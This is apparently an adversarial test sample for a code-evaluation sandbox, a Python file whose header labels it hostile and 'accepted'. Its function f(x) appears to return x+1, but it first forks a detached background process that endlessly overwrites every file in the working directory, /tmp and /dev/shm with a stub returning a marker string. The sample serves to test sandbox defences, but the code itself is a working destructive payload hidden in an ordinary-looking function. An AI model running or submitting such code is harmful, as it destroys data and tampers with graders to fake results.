# /// hostile
# verdicts = ["accepted"]
# danger = "A process that rewrites every file which appears, for as long as it lives."
# ///
import os
import time


def f(x):
    if os.fork() == 0:
        os.setsid()
        while True:
            for folder in (".", "/tmp", "/dev/shm"):
                try:
                    for name in os.listdir(folder):
                        with open(os.path.join(folder, name), "w") as file:
                            file.write("def f(x): return '@@MARK@@'\n")
                except OSError:
                    continue
            time.sleep(0.01)
    return x + 1
